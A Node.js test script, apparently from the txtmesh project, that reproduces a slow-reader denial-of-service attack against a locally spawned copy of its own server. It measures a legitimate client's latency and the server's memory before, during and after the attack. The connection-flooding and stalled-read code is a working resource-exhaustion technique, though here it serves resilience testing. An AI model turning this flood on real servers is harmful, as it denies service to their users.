#!/usr/bin/env node
/**
 * The slow-reader attack of issue 12, item 1, against a real txtmesh-server process (dist/),
 * with figures: a crowd of connections each asks for two 8 MiB ranges and then reads nothing
 * (--mode stall) or about 8 KB/s (--mode trickle), while a real member keeps asking HELLO, LIST
 * and one piece. Prints the member's latency and failures and the server's memory (VmRSS)
 * before, during and after the attack.
 *
 *   npm run build && node scripts/slow-reader-attack.mjs [--mode stall|trickle] [--from 127.0.0.1]
 *     [--count 260] [--seconds 20] [--server-args "--send-timeout 30"]
 */
import { spawn } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const repo = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const { fileInfo, getRange, hello, listFiles } = await import(join(repo, 'dist/client/peer-client.js'));
const { PeerConnection } = await import(join(repo, 'dist/client/peer-connection.js'));

const { values: opt } = parseArgs({
  options: {
    mode: { type: 'string', default: 'stall' },
    from: { type: 'string', default: '127.0.0.1' },
    count: { type: 'string', default: '260' },
    seconds: { type: 'string', default: '20' },
    'server-args': { type: 'string', default: '' },
  },
});
const count = Number(opt.count);
const seconds = Number(opt.seconds);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function freePort() {
  const s = createServer();
  await new Promise((r) => s.listen(0, '127.0.0.1', r));
  const { port } = s.address();
  await new Promise((r) => s.close(r));
  return port;
}

async function rssMiB(pid) {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)[1]) / 1024;
}

const root = await mkdtemp(join(tmpdir(), 'txtmesh-attack-'));
const port = await freePort();
await mkdir(join(root, 'p1', 'served_files'), { recursive: true });
await writeFile(join(root, 'p1', 'served_files', 'big.txt'), Buffer.alloc(16 * 1024 * 1024, 'b'));
await writeFile(join(root, 'peer_settings.txt'), `p1 127.0.0.1 ${port}\np2 127.0.0.1 ${port + 1}\n`);
const server = spawn(process.execPath, [...(process.env.SERVER_NODE_ARGS ?? '').split(' ').filter(Boolean), join(repo, 'dist/server.js'), '--quiet', ...opt['server-args'].split(' ').filter(Boolean)], { cwd: join(root, 'p1'), stdio: ['ignore', 'pipe', 'inherit'] });
await new Promise((r) => server.stdout.on('data', (d) => /serving/.test(d) && r()));
const peer = { id: 'p1', host: '127.0.0.1', port, line: 1 };
const as = { id: 'p2' };

/** One round of a real member: connect, HELLO (claim), LIST, INFO, one 256 KiB piece. */
const steps = { connect: [], hello: [], list: [], info: [], get: [] };
async function memberRound() {
  const started = performance.now();
  let t = started;
  const step = (name) => {
    const now = performance.now();
    steps[name].push(now - t);
    t = now;
  };
  const conn = await PeerConnection.connect(peer, { as, timeoutMs: 5000 });
  step('connect');
  try {
    await hello(conn, 'p2');
    step('hello');
    await listFiles(conn);
    step('list');
    const info = await fileInfo(conn, 'big.txt');
    step('info');
    await getRange(conn, 'big.txt', 0, 262144, info.identity, { timeoutMs: 5000 });
    step('get');
  } finally {
    conn.close();
  }
  return performance.now() - started;
}

function stats(samples) {
  const s = [...samples].sort((a, b) => a - b);
  const q = (p) => (s.length ? s[Math.min(s.length - 1, Math.floor(p * s.length))].toFixed(1) : '-');
  return `n=${s.length} p50=${q(0.5)} ms p90=${q(0.9)} ms max=${q(1)} ms`;
}

const baseline = [];
for (let i = 0; i < 10; i++) baseline.push(await memberRound());
const rssBefore = await rssMiB(server.pid);

const attackers = new Set();
const request = 'GET 1 0 big.txt 0 8388608\nGET 2 0 big.txt 0 8388608\n';
let attacking = true;
let opened = 0;
/** One attacker; a persistent attacker opens another as soon as one is closed. */
function attack() {
  const s = connect({ host: '127.0.0.1', port, localAddress: opt.from });
  opened++;
  s.on('error', () => undefined);
  s.once('connect', () => s.write(request));
  s.once('close', () => {
    attackers.delete(s);
    if (attacking) setTimeout(attack, 50);
  });
  s.pause();
  attackers.add(s);
}
for (let i = 0; i < count; i++) attack();
// Evicted connections are not always seen (a paused socket reads no FIN): the crowd also keeps
// opening 20 new connections a second, so every slot that frees up is taken again.
const topUp = setInterval(() => {
  for (let i = 0; i < 4; i++) attack();
}, 200);
let trickle;
if (opt.mode === 'trickle') {
  trickle = setInterval(() => {
    for (const s of attackers) if (!s.destroyed) s.read(Math.min(820, s.readableLength) || undefined);
  }, 100);
}
await sleep(1000); // the crowd is in before the member comes back
for (const k of Object.keys(steps)) steps[k].length = 0;
const during = [];
const failures = new Map();
let peak = rssBefore;
const started = performance.now();
const sampler = setInterval(async () => (peak = Math.max(peak, await rssMiB(server.pid).catch(() => 0))), 250);
while (performance.now() - started < seconds * 1000) {
  try {
    during.push(await memberRound());
    await sleep(100);
  } catch (err) {
    const key = `${err.code}: ${err.message.replace(/\d+/g, 'N').slice(0, 90)}`;
    failures.set(key, (failures.get(key) ?? 0) + 1);
    if (process.env.STEPS) console.log(`  failure at ${((performance.now() - started) / 1000).toFixed(1)} s: ${key}`);
    await sleep(100);
  }
}
const rssEnd = await rssMiB(server.pid);
const open = attackers.size;
attacking = false;
clearInterval(topUp);
clearInterval(trickle);
for (const s of attackers) s.destroy();
await sleep(5000);
const rssAfter = await rssMiB(server.pid);
clearInterval(sampler);

console.log(`attack: ${count} connections from ${opt.from}, mode ${opt.mode}, ${seconds} s; server args: ${opt['server-args'] || '(defaults)'}`);
console.log(`member before:  ${stats(baseline)}`);
console.log(`member during:  ${stats(during)}; failed rounds: ${[...failures.values()].reduce((a, b) => a + b, 0)}`);
for (const [k, v] of failures) console.log(`  ${v} x ${k}`);
if (process.env.STEPS) for (const [k, v] of Object.entries(steps)) console.log(`  step ${k}: ${stats(v)}`);
console.log(`attacker connections opened: ${opened}; still open on the attacker's side at the end: ${open}`);
console.log(`server VmRSS: before ${rssBefore.toFixed(0)} MiB, peak during ${peak.toFixed(0)} MiB, at the end ${rssEnd.toFixed(0)} MiB, 5 s after the attackers left ${rssAfter.toFixed(0)} MiB`);
server.kill('SIGKILL');
await rm(root, { recursive: true, force: true });
process.exit(0);
